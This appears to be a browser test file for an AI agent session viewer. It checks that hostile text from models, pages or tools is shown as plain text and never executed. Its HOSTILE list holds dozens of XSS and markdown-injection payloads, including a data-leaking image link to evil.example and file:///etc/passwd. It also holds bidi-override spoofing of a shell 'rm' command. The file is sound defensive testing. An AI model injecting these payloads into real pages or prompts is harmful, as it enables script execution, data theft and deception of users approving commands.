import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { EventBody } from '../../src/protocol/session/event.ts';
import { sessionFolder } from '../../src/protocol/workspace/session-names.ts';
import { sessionPaths } from '../../src/store/index.ts';
import { opened, planned, received, record, started } from '../client/rig.ts';
import { answered, eventually, expectAccessible, openSession, showAllEntries, useBrowser } from './page-setup.ts';

const webTest = useBrowser();

/** Texts with which a model, a page it has read or a program's output may try to run or load something. */
const HOSTILE = [
  '<script>window.pwn=1</script>',
  '<img src=x onerror="window.pwn=1">',
  '[a](javascript:window.pwn=1)',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\nscript:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:x)',
  '![x](https://evil.example/leak?d=secret)',
  '![x](//evil.example/a)',
  '<https://evil.example>',
  '<javascript:alert(1)>',
  '<iframe src="https://evil.example">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=https://evil.example><button>go</button></form>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '[x]: javascript:alert(1)\n\n[x]',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>',
  '"><base href="https://evil.example/">',
  '<link rel=prefetch href="https://evil.example/p">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '- [x] done\n- [ ] open\n\n**bold** *em* ~~del~~ https://example.com',
  '[a](/logout)',
  '[a](//evil.example)',
  '[a](#/new)',
  '[a](\\\\evil.example\\x)',
  '[a](file:///etc/passwd)',
  '[a](blob:http://127.0.0.1/x)',
  '[a](http:javascript:alert(1))',
  '[a](https://evil.example "onmouseover=alert(1)")',
  '[![x](https://evil.example/i.png)](javascript:alert(1))',
  '[x][y]\n\n[y]: data:text/html,x',
  '![x][y]\n\n[y]: https://evil.example/pixel',
  '<video poster=https://evil.example/p.png><source src=https://evil.example/v></video>',
  '<object data=https://evil.example></object><embed src=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)><template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '# <img src=x onerror=alert(1)>\n> <script>alert(1)</script>\n\n1. <svg/onload=alert(1)>',
  '__proto__ constructor {{7*7}} <%= x %>',
  '\u202egnp.exe\u202c \ufeff \u0007',
  `${'['.repeat(2000)}x${'](y)'.repeat(200)}`,
];

webTest(
  'no text of a model, a person or a program becomes code, markup or a request, wherever the page shows it',
  [],
  async (setup) => {
    const events: EventBody[] = [
      opened,
      received('1.md', HOSTILE.join('\n')),
      started('1.md'),
      ...planned('p', HOSTILE[0]!),
    ];
    for (const [place, text] of HOSTILE.entries()) {
      const step = `s_${place}`;
      events.push(
        { type: 'step.added', step: { id: step, description: text, status: 'pending' }, by: 'model' },
        { type: 'step.failed', step, error: text, by: 'model' },
        answered(text, [{ id: 'c', name: 'shell', args: text }]),
      );
      const call = `${events.length}.0`;
      events.push(
        { type: 'tool.started', call, name: text, args: text, replay: 'never' },
        { type: 'tool.finished', call, ok: true, output: { text }, ms: 1 },
      );
    }
    await openSession(setup, events);
    const page = await setup.open({ hash: '#/s/demo' });
    await page.getByText('gnp.exe').last().waitFor();
    await showAllEntries(page);
    await page.evaluate('for (const one of document.querySelectorAll("details")) one.open = true');
    await page.getByText('Reopen').last().waitFor();
    const bad =
      'script:not([src="/app.js"]), iframe, img, style, svg:not(.icon), .icon > :not(path), link:not([href="/app.css"], [href="/icon.svg"], [href="/app.webmanifest"]), base, object, embed, video, math, template, meta[http-equiv], [onerror], [onload], [onfocus], [ontoggle], form[action]';
    expect(await page.locator(bad).count()).toBe(0);
    expect(await page.evaluate('window.pwn ?? null')).toBeNull();
    await page.getByRole('button', { name: 'Graph' }).press('Enter');
    const graph = page.locator('.graph');
    await graph.getByRole('link').last().waitFor();
    expect(
      await graph
        .locator(
          ':not(svg, g, rect, path, a, foreignObject, div, span, br, title), [onload], a:not([href^="#/s/demo/run/"])',
        )
        .count(),
    ).toBe(0);
    await page.getByRole('button', { name: 'List' }).press('Enter');
    await page.goto(`${setup.url}/#/s/demo/versions`);
    await page.getByRole('region', { name: 'Versions' }).getByText('gnp.exe').last().waitFor();
    expect(await page.locator(bad).count()).toBe(0);
    expect(await page.evaluate('window.pwn ?? null')).toBeNull();
    await page.goto(`${setup.url}/#/s/demo`);
    await page.getByText('gnp.exe').last().waitFor();
    await showAllEntries(page);
    const links = await page
      .locator('.transcript a')
      .evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''));
    expect(links.length).toBeGreaterThan(5);
    expect(links.filter((href) => !/^(?:https?:\/\/|mailto:)[a-z]/.test(href))).toEqual([]);
    const rels = await page.locator('.transcript a:not([rel="noopener noreferrer nofollow"])').count();
    expect(rels).toBe(0);
    expect(await page.locator('.transcript strong', { hasText: 'bold' }).count()).toBe(1);
  },
);

/** Marks that reorder and hide what follows, and how a person sees them. */
const HIDDEN = /[\u202e\u009b]/;
const MISLEADING = 'rm \u202etxt.exe\u009b8m';
const WRITTEN_OUT = 'rm \\u202etxt.exe\\u009b8m';
const spent = { iterations: 1, tokens: 0, cost: null };

webTest('a call that waits is shown with each mark that nobody sees written out', [], async (setup) => {
  const args = JSON.stringify({ command: MISLEADING });
  await openSession(setup, [
    ...[opened, received('1.md'), started('1.md')],
    { type: 'tool.started', call: '3.0', name: 'shell', args, replay: 'safe' },
    { type: 'tool.finished', call: '3.0', ok: true, output: { text: MISLEADING }, ms: 1 },
    {
      ...{ type: 'approval.asked', call: '6.0', name: 'shell', args, id: 1, hash: 'x', display: MISLEADING },
      ...{ why: `a rule: ${MISLEADING}`, always: `shell(${MISLEADING})`, expires_at: '2099-01-03T00:00:00.000Z' },
    },
    { type: 'run.ended', message: '1.md', status: 'waiting', reason: 'approval', text: 'x', spent },
  ]);
  const page = await setup.open({ hash: '#/s/demo' });
  const approval = page.getByRole('region', { name: 'This call needs your approval' });
  expect(await approval.locator('pre').textContent()).toBe(`$ ${WRITTEN_OUT}`);
  expect(await approval.locator('p').first().textContent()).toBe(`You are asked because a rule: ${WRITTEN_OUT}`);
  expect(await approval.getByRole('button').last().textContent()).toContain(`shell(${WRITTEN_OUT})`);
  await page.getByRole('log').locator('summary', { hasText: 'txt.exe' }).click();
  expect(await page.getByRole('log').locator('pre').first().textContent()).toContain(WRITTEN_OUT);
  expect(await page.locator('body').textContent()).not.toMatch(HIDDEN);
});

webTest(
  'a question and its choices are shown with each such mark written out, and the choice is sent as it is',
  [],
  async (setup) => {
    await openSession(setup, [
      ...[opened, received('1.md'), started('1.md')],
      answered('', [{ id: 'q', name: 'ask_user', args: '{}' }]),
      {
        ...{ type: 'run.ended', message: '1.md', status: 'waiting', reason: 'question', text: 'x', spent },
        question: { call: '5.0', text: `**Which?** ${MISLEADING}`, choices: ['keep', MISLEADING] },
      },
    ]);
    const page = await setup.open({ hash: '#/s/demo' });
    const asked = page.getByRole('region', { name: 'The agent asks you' });
    expect(await asked.locator('p').first().textContent()).toBe(`Which? ${WRITTEN_OUT}`);
    expect(await page.locator('body').textContent()).not.toMatch(HIDDEN);
    await asked.getByRole('button', { name: WRITTEN_OUT }).press('Enter');
    const inbox = join(setup.on.session('demo'), 'inbox');
    const sent = () =>
      readdirSync(inbox)
        .filter((name) => name.endsWith('.json'))
        .map((name) => JSON.parse(readFileSync(join(inbox, name), 'utf8')).text);
    await eventually(sent).toContain(MISLEADING);
  },
);

webTest(
  'long titles, names in any script, hostile marks in steps and 200 questions at once stay readable; a session removed while open says so',
  [],
  async (setup) => {
    const names = ['季度报告', 'تقرير الربع', 'รายงาน', 'Отчёт №3', '🦊 & <b>', `long-${'x'.repeat(200)}`];
    const limits = { iterations: 9, step_iterations: 5 };
    const marks = [
      '\u202etxt.exe',
      'Z\u0300\u0301\u0302'.repeat(90),
      '\u001b[31mred',
      'a\u200bb',
      `${'W'.repeat(3000)}`,
    ];
    const steps = marks.map((description, place) => ({ id: `s${place}`, description, status: 'pending' as const }));
    for (const name of names)
      await openSession(
        setup,
        [
          ...[opened, received('1.md', name), started('1.md')],
          { type: 'plan.started', id: 'p', goal: name, mode: 'linear', limits, steps },
        ],
        name,
      );
    const title = 'Reconcile every receipt of the quarter; '.repeat(8).slice(0, 300);
    writeFileSync(join(setup.on.session('季度报告'), 'session.json'), JSON.stringify({ title }));
    const asks = (place: number): EventBody => ({
      ...{ type: 'run.ended', message: '1.md', status: 'waiting', reason: 'question', text: 'x', spent },
      question: { call: '5.0', text: `Question ${place}?`, choices: ['yes', 'no'] },
    });
    for (let place = 0; place < 200; place++) {
      const { folder } = sessionPaths(setup.on.session(`q-${place}`));
      mkdirSync(join(folder, 'inbox'), { recursive: true });
      await record(sessionPaths(folder), [opened, received('1.md'), started('1.md'), asks(place)]);
    }

    const page = await setup.open();
    const list = page.getByRole('navigation', { name: 'Sessions' });
    const needy = list.getByRole('region', { name: 'Needs you' }).getByRole('link');
    await eventually(() => needy.count()).toBe(100);
    await expectAccessible(page);
    await list.getByRole('button', { name: /^Show \d+ more$/ }).press('Enter');
    await list.getByRole('button', { name: /^Show \d+ more$/ }).press('Enter');
    await eventually(() => list.locator('.entry .about', { hasText: /Question \d+\?/ }).count()).toBe(200);
    await list.getByRole('searchbox').fill('Question 137');
    await eventually(() => needy.count()).toBe(1);
    await needy.first().press('Enter');
    await page.getByRole('region', { name: 'The agent asks you' }).getByText('Question 137?').waitFor();
    await list.getByRole('searchbox').fill('');

    for (const name of names) {
      await page.goto(`${setup.url}/#/s/${encodeURIComponent(sessionFolder(name))}`);
      const heading = page.getByRole('main').getByRole('heading', { level: 1 });
      await eventually(() => heading.textContent()).toContain(name === '季度报告' ? title : name);
      const plan = page.getByRole('region', { name: 'Plan' });
      await plan.locator('.description', { hasText: '\\u202etxt.exe' }).waitFor();
      expect(await plan.textContent()).not.toMatch(/[\u202e\u001b\u200b]/);
    }
    await page.goto(`${setup.url}/#/s/${encodeURIComponent('季度报告')}`);
    for (const step of await page.locator('.step > summary').all()) await step.press('Enter');
    await expectAccessible(page);

    const folder = setup.on.session('季度报告');
    rmSync(folder, { recursive: true });
    await page.evaluate("dispatchEvent(new Event('focus'))");
    await page.getByRole('alert').getByText('does not exist, or was removed').waitFor();
    await page.getByRole('alert').getByRole('link', { name: 'All sessions' }).press('Enter');
    await eventually(() => page.url()).toBe(`${setup.url}/#/`);
    await list.getByText(title.slice(0, 40)).waitFor({ state: 'detached' });
  },
);
